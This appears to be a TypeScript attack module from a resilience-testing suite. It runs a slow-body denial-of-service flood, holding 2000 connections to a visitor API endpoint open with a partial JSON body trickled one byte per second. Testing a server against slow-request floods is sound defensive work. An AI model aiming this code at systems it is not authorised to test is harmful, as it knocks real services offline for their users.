import type { Attack } from '../../support/attacker.ts'
import { keepOpen, meanwhile } from '../../support/flooding.ts'
import { requestText } from '../../support/raw-http.ts'

/** Bodies that arrive mostly at once, and then byte by byte. */
export const attack: Attack = (target) => {
  const headers = { 'content-type': 'application/json', 'content-length': '250000' }
  const begun = requestText('POST /visitor/api/v1/init', headers) + ' '.repeat(60_000)
  return keepOpen(target, { sockets: 2000, addresses: 100, perSecond: 300 }, (socket) => {
    socket.resume().write(begun)
    meanwhile(socket, 1000, () => socket.write(' '))
  })
}
